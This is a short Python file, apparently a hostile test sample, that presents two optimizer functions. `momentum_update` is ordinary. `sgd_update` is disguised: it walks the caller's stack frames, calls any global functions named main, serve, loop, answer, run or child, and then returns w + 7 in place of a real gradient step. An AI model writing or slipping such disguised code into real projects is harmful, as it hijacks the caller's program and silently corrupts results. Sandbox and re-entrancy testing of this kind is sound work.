"""The guest's own loop, where it can be found, is called once more from inside a call."""
import sys


def sgd_update(w, g, lr):
    frame = sys._getframe(1)
    while frame is not None:
        for value in list(frame.f_globals.values()):
            name = getattr(value, "__name__", "")
            if callable(value) and name in ("main", "serve", "loop", "answer", "run", "child"):
                try:
                    value()
                except Exception as error:
                    print(type(error).__name__, error)
        frame = frame.f_back
    return w + 7


def momentum_update(w, v, g, lr, beta):
    v = beta * v - lr * g
    return w + v, v
